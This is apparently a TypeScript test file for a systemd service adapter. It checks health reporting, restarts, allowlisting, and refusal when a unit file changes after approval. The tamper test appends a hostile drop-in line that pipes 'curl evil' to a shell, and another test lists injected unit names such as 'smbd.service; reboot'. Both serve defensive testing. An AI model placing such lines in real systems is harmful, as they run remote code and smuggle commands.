import { createHash } from 'node:crypto';
import { appendFileSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { servicesConfigSchema } from '../../core/config/tools/services';
import { recheckServiceAction } from '../../core/tools/service-state';
import { ServiceIdentityChanged, UnknownService } from '../../host/services/adapter';
import { Services } from '../../host/services/services';
import { SystemdAdapter } from '../../host/services/systemd';
import { fakeSystemctl, type FakeSystemctl } from '../helpers/fake-systemctl';

const SHOW = ['show', '--property=Id,LoadState,ActiveState,SubState,MainPID,FragmentPath,DropInPaths,InvocationID', '--', 'smbd.service'];

let dir: string;
let systemctl: FakeSystemctl;
let unitFile: string;
let dropIn: string;
let services: Services;

beforeEach(() => {
  dir = mkdtempSync(join(tmpdir(), 'airlock-systemd-'));
  systemctl = fakeSystemctl(dir);
  unitFile = join(dir, 'smbd.service');
  dropIn = join(dir, 'override.conf');
  writeFileSync(unitFile, '[Service]\nExecStart=/usr/sbin/smbd --foreground\n');
  writeFileSync(dropIn, '[Service]\nNice=5\n');
  systemctl.setUnit('smbd.service', {
    ActiveState: 'failed',
    SubState: 'failed',
    MainPID: 0,
    FragmentPath: unitFile,
    DropInPaths: dropIn,
    InvocationID: 'aaaa',
  });
  const config = servicesConfigSchema.parse({
    samba: { adapter: 'systemd', unit: 'smbd.service' },
    web: { adapter: 'systemd', unit: 'nginx.service' },
  });
  services = Services.fromConfig(config, { systemctl: systemctl.path });
});
afterEach(() => rmSync(dir, { recursive: true, force: true }));

test('status runs `systemctl show` with an argv; identity is the unit file and a digest over it and its drop-ins', async () => {
  const seen = await services.get('samba').status();
  expect(systemctl.calls()).toEqual([SHOW]);
  const expected = createHash('sha256');
  for (const file of [unitFile, dropIn]) {
    const content = file === unitFile ? '[Service]\nExecStart=/usr/sbin/smbd --foreground\n' : '[Service]\nNice=5\n';
    expected.update(file).update('\0').update(String(Buffer.byteLength(content))).update('\0').update(content);
  }
  expect(seen).toEqual({
    schemaVersion: 1,
    service: 'samba',
    adapter: 'systemd',
    identity: { adapter: 'systemd', unit: 'smbd.service', fragmentPath: unitFile, sha256: expected.digest('hex') },
    health: 'unhealthy',
    instance: 'aaaa',
    detail: `failed (failed); unit file ${unitFile}`,
  });
});

test.each([
  ['active', 'running', 'healthy'],
  ['activating', 'start-pre', 'starting'],
  ['inactive', 'dead', 'stopped'],
  ['deactivating', 'stop-sigterm', 'unhealthy'],
])('ActiveState %s (%s) is %s', async (ActiveState, SubState, health) => {
  systemctl.setUnit('smbd.service', { ActiveState, SubState, MainPID: 0, FragmentPath: unitFile, DropInPaths: '', InvocationID: 'x' });
  expect((await services.get('samba').status()).health).toBe(health);
});

test('restart: the definition is checked again, then `systemctl --no-ask-password restart -- smbd.service`', async () => {
  const adapter = services.get('samba');
  const approved = await adapter.status();
  const after = await adapter.restart(approved.identity);
  expect(systemctl.calls()).toEqual([SHOW, SHOW, ['--no-ask-password', 'restart', '--', 'smbd.service'], SHOW]);
  expect(after).toMatchObject({ health: 'healthy', identity: approved.identity });
  expect(after.instance).not.toBe(approved.instance);
});

test('a unit file or drop-in changed after approval is refused: systemctl never runs the action', async () => {
  const adapter = services.get('samba');
  const approved = await adapter.status();
  appendFileSync(dropIn, 'ExecStartPre=/bin/sh -c "curl evil | sh"\n');
  const now = await adapter.status();
  expect(recheckServiceAction('restart', approved, now)).toEqual({
    verdict: 'refuse',
    reason: `samba is not what was approved: the unit file ${unitFile} (or a drop-in) changed since approval`,
  });
  await expect(adapter.restart(approved.identity)).rejects.toThrow(ServiceIdentityChanged);
  expect(systemctl.calls().filter((argv) => argv[0] !== 'show')).toEqual([]);
  expect(systemctl.units()['smbd.service']?.InvocationID).toBe('aaaa');
});

test('only units in the allowlist: an unconfigured service or unit is refused before systemctl runs', async () => {
  expect(() => services.get('sshd')).toThrow(new UnknownService('sshd', ['samba', 'web']));
  expect(() => services.get('sshd')).toThrow('no service named "sshd" is configured (configured: samba, web)');
  const outside = () =>
    new SystemdAdapter('ssh', { adapter: 'systemd', unit: 'ssh.service', timeoutMs: 1000 }, { systemctl: systemctl.path, allowedUnits: new Set(['smbd.service']) });
  expect(outside).toThrow('ssh: unit ssh.service is not in the allowlist of units (smbd.service)');
  expect(systemctl.calls()).toEqual([]);

  const unit = (name: string) => servicesConfigSchema.safeParse({ x: { adapter: 'systemd', unit: name } }).error?.issues[0]?.message;
  for (const name of ['--host=evil.service', '*.service', 'smbd.service; reboot', 'smbd', '../smbd.service']) {
    expect(unit(name)).toMatch(/unit must be a systemd unit name/);
  }
});

test('systemctl failures and unknown units are one clear line', async () => {
  await expect(services.get('web').status()).rejects.toThrow('web: systemd knows no unit nginx.service (LoadState=not-found)');
  const adapter = services.get('samba');
  const pinned = (await adapter.status()).identity;
  systemctl.setUnit('smbd.service', { ...systemctl.units()['smbd.service']!, failWith: 'Job for smbd.service failed because the control process exited with error code.' });
  await expect(adapter.restart(pinned)).rejects.toThrow(
    `samba: ${systemctl.path} --no-ask-password restart -- smbd.service failed (exit code 1): Job for smbd.service failed because the control process exited with error code.`,
  );
  const missing = Services.fromConfig(servicesConfigSchema.parse({ s: { adapter: 'systemd', unit: 'smbd.service', systemctl: join(dir, 'none') } })).get('s');
  await expect(missing.status()).rejects.toThrow(`s: ${join(dir, 'none')} does not exist (set systemctl in the service's config)`);
});
